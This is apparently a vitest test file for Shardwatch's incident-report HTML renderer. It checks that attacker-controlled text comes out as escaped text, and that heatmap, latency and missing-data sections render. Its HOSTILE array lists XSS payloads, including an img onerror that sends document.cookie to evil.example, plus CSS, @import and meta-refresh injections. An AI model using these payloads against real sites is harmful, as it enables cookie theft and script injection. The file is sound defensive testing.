import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { renderIncidentReport } from '../../../../electron/core/analytics/incident-report';
import type { IncidentReportInput } from '../../../../electron/core/analytics/incident-report';
import type { HistoryPoint } from '../../../../shared/history-model';
import type { Incident } from '../../../../shared/incident-model';
import type { FrameLogEntry } from '../../../../shared/profile-detail';
import { createSliceBuilder, heatCode } from '../../../../shared/shard-heatmap';

const T0 = Date.UTC(2026, 10, 26, 12, 0, 0);
const MIN = 60_000;

/** Text an attacker controls (a gateway's frames, a profile name, an incident title). */
const HOSTILE = [
  '</pre></td></tr></table><script>alert(1)</script>',
  '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '"><svg onload=alert(2)><a href="javascript:alert(3)">x</a>',
  "'; background:url(https://evil.example/x); '",
  '<!-- --><style>@import "https://evil.example/s.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ']]><![CDATA[ & &amp; &#x3c;script&#x3e;',
];

function input(): IncidentReportInput {
  const incident: Incident = {
    id: 'inc-<1>',
    profileId: 'p',
    rule: 'shards-down',
    severity: 'critical',
    title: `12 shards down ${HOSTILE[0]}`,
    body: `Body ${HOSTILE[1]}`,
    shardIds: [3, 19, 35],
    openedAt: T0 + 10 * MIN,
    updatedAt: T0 + 10 * MIN,
    clearedAt: T0 + 14 * MIN,
    acknowledged: false,
    suppressed: false,
  };
  const frames: FrameLogEntry[] = HOSTILE.map((text, i) => ({
    at: T0 + 9 * MIN + i * 1000,
    direction: i % 2 ? 'out' : 'in',
    type: 3,
    event: i === 2 ? (HOSTILE[2] ?? null) : 'GATEWAY_SHARD_INFO',
    text,
    error: i === 3 ? (HOSTILE[4] ?? null) : null,
  }));
  const b = createSliceBuilder(T0, T0 + 20 * MIN, 0, 40);
  for (let s = 0; s < 40; s++) b.setInitial(s, heatCode('up'));
  for (const s of [3, 19, 35]) b.push(s, T0 + 10 * MIN, heatCode('down'));
  const points: HistoryPoint[] = Array.from({ length: 20 }, (_, i) => ({
    t: T0 + i * MIN,
    p5: 10,
    p50: 20 + i,
    p95: 40 + i,
    min: 8,
    max: 90,
    count: 60,
    lost: i === 10 ? 3 : 0,
    disturbed: i === 12 ? 4 : 0,
  }));
  return {
    incident,
    profileName: `Bot ${HOSTILE[5]}`,
    timeZone: 'Europe/Berlin',
    generatedAt: T0 + 30 * MIN,
    diagnosis: `all in identify bucket 3 ${HOSTILE[3]}`,
    capture: {
      incidentId: incident.id,
      profileId: 'p',
      openedAt: incident.openedAt,
      from: incident.openedAt - 3 * MIN,
      to: incident.openedAt + 3 * MIN,
      frames,
      bytes: 1000,
      droppedBefore: 2,
      droppedAfter: 0,
      complete: true,
    },
    heatmap: b.finish(),
    latency: { points, from: T0, to: T0 + 20 * MIN },
    timeline: [{ at: T0 + 10 * MIN, kind: 'shard-state', text: HOSTILE[6] ?? '', shardId: 3 }],
  };
}

/** The report as a browser would parse it (happy-dom's types: tsconfig.node has no DOM lib). */
function parse(html: string) {
  const window = new Window();
  return new window.DOMParser().parseFromString(html, 'text/html');
}

describe('incident report', () => {
  it('shows hostile frame content as text: no markup, no script, nothing fetched', () => {
    const html = renderIncidentReport(input());
    const doc = parse(html);
    expect(
      doc.querySelectorAll('script, img, iframe, object, embed, link, base, a, form'),
    ).toHaveLength(0);
    expect(doc.querySelectorAll('meta[http-equiv="refresh"]')).toHaveLength(0);
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    for (const el of Array.from(doc.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        expect(attr.name.startsWith('on')).toBe(false);
        expect(attr.value).not.toMatch(/:\/\/|javascript:|url\(/i);
      }
    }
    // Every frame reads back exactly as it was sent.
    const pres = Array.from(doc.querySelectorAll('table.frames pre')).map((p) => p.textContent);
    expect(pres).toEqual(HOSTILE);
    expect(doc.querySelector('h1')?.textContent).toBe(`12 shards down ${HOSTILE[0]}`);
    expect(doc.title).toBe(`Shardwatch incident: 12 shards down ${HOSTILE[0]}`);
    // The only style sheet is ours, and it loads nothing.
    expect(doc.querySelector('style')?.textContent).not.toMatch(/@import|url\(|:\/\//);
    // A policy that would stop a script even if one got through.
    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(csp?.getAttribute('content')).toContain("default-src 'none'");
    expect(html).not.toMatch(/<script/i);
  });

  it('carries the heatmap slice, the latency chart, the timeline and the times of the incident', () => {
    const doc = parse(renderIncidentReport(input()));
    const svgs = doc.querySelectorAll('svg');
    expect(svgs).toHaveLength(2);
    // The three failed shards' rows show the down colour from the incident on.
    const down = Array.from(svgs[0]?.querySelectorAll('rect') ?? []).filter(
      (r) => r.getAttribute('fill') === '#D55E00',
    );
    expect(down).toHaveLength(3);
    expect(svgs[1]?.querySelector('polyline.median')).not.toBeNull();
    expect(svgs[1]?.querySelectorAll('rect.lost')).toHaveLength(1);
    // Disturbed pings: a ring where they were, and a sentence saying they are in no figure.
    expect(svgs[1]?.querySelectorAll('circle.disturbed')).toHaveLength(1);
    const text = doc.body.textContent ?? '';
    expect(text).toContain('4 pings answered while Shardwatch could not time them honestly');
    // Times in the report's zone (Berlin is UTC+1 in November).
    expect(text).toContain('opened 2026-11-26 13:10:00');
    expect(text).toContain('cleared 2026-11-26 13:14:00 after 4 min');
    expect(text).toContain('2 more did not fit');
    expect(text).toContain(HOSTILE[6]);
  });

  it('says plainly what is missing', () => {
    const bare = renderIncidentReport({
      ...input(),
      capture: null,
      heatmap: null,
      latency: null,
      timeline: [],
    });
    const text = parse(bare).body.textContent ?? '';
    expect(text).toContain('No frames were recorded around this incident.');
    expect(text).toContain('No shard history was recorded.');
    expect(text).toContain('No latency history was recorded.');
  });
});
